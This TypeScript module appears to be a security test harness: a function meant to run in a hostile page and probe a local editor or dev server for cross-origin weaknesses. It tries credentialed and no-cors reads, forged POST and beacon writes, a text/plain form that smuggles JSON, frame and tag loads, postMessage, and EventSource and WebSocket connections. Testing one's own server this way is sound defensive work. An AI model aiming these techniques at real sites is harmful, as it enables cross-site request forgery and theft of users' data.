/** What a hostile page knows of its victim. */
export interface Victim {
  /** Origin of the screen, or of the site beside it. */
  origin: string;
  /** Addresses that it tries to read, to load and to frame. */
  reads: string[];
  /** Where it sends its change, and the change. */
  update: string;
  body: string;
}

/**
 * Tries everything that a page can do to another origin. Runs in the hostile page and uses nothing outside of itself.
 * @returns what it could read, a line each
 */
export async function attack({ origin, reads, update, body }: Victim): Promise<string[]> {
  const loot: string[] = [];
  const within = <T>(promise: Promise<T>) =>
    Promise.race([promise, new Promise<undefined>((done) => setTimeout(done, 3_000))]).catch(() => undefined);
  const read = async (way: string, url: string, init?: RequestInit) => {
    const response = await within(fetch(url, init));
    const text = response && (await within(response.text()));
    if (text) loot.push(`${way} ${url}: ${response.status} ${text.slice(0, 60)}`);
  };

  for (const url of reads) {
    await read('fetch', url);
    await read('fetch with credentials', url, { credentials: 'include' });
    await read('fetch without CORS', url, { mode: 'no-cors' });
    await read('fetch with a header', url, { headers: { 'x-edit-token': 'A', 'no-cors': '1' } });
  }
  for (const mode of ['cors', 'no-cors'] as const) {
    for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded', undefined]) {
      const headers = type ? { 'content-type': type } : undefined;
      await read('write', update, {
        method: 'POST',
        mode,
        body: new Blob([body]),
        ...(headers && { headers }),
      });
    }
  }
  for (const method of ['PUT', 'DELETE', 'PATCH']) await read(method, update, { method, body });
  navigator.sendBeacon(update, body);
  navigator.sendBeacon(update, new Blob([body], { type: 'text/plain' }));

  const show = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    const arrived = new Promise<string | undefined>((done) => {
      element.onload = () => done('loaded');
      element.onerror = () => done(undefined);
    });
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return { element, arrived };
  };
  for (const url of reads) {
    for (const [tag, attributes] of [
      ['img', { src: url }],
      ['script', { src: url }],
      ['script', { src: url, type: 'module' }],
      ['link', { href: url, rel: 'stylesheet' }],
      ['video', { src: url }],
    ] as const) {
      const arrived = await within(show(tag, attributes).arrived);
      if (arrived) loot.push(`<${tag}> ${url}`);
    }
    const { element, arrived } = show('iframe', { src: url, name: 'victim' });
    await within(arrived);
    const { contentDocument, contentWindow } = element as HTMLIFrameElement;
    if (contentDocument?.body.textContent) loot.push(`frame ${url}`);
    contentWindow?.postMessage({ type: 'edit:show', text: 'Hostile' }, '*');
  }

  // A form posts `text` and `=` and the value of its field: together they are JSON.
  const form = document.createElement('form');
  form.method = 'post';
  form.action = update;
  form.target = 'posted';
  form.enctype = 'text/plain';
  const field = document.createElement('input');
  field.name = `${body.slice(0, -1)},"x":"`;
  field.value = '"}';
  form.append(field);
  const posted = show('iframe', { name: 'posted' });
  document.body.append(form);
  form.submit();
  await within(posted.arrived);

  const stream = new EventSource(`${origin}/state`);
  const event = await within(
    new Promise<string | undefined>((done) => {
      stream.onmessage = ({ data }) => done(String(data));
      stream.onerror = () => done(undefined);
    }),
  );
  if (event) loot.push(`events ${event}`);
  stream.close();
  const socket = new WebSocket(`${origin.replace('http', 'ws')}/?token=A`, 'vite-hmr');
  const opened = await within(
    new Promise<string | undefined>((done) => {
      socket.onopen = () => done('open');
      socket.onerror = () => done(undefined);
    }),
  );
  if (opened) loot.push('socket');
  socket.close();
  return loot;
}
